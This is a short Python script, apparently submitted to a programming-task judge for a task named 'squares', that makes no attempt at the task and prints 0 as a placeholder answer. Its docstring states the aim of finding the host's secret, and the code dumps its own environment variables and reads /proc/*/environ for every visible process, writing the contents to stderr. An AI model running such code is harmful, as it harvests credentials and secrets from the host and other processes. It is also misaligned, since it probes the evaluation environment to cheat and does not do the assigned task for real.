"""Searches its environment and that of every visible process for the host's secret.

task: squares
status: RE WA
"""

import ctypes
import glob
import os
import sys

os.write(2, b"attempt\n")
sys.stderr.write(repr(dict(os.environ)))
libc = ctypes.CDLL(None)
environ = ctypes.POINTER(ctypes.c_char_p).in_dll(libc, "environ")
index = 0
while environ and environ[index]:
    sys.stderr.write(repr(environ[index]))
    index += 1
for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/task/*/environ"):
    try:
        sys.stderr.write(open(path, errors="replace").read())
    except OSError:
        pass
print(0)
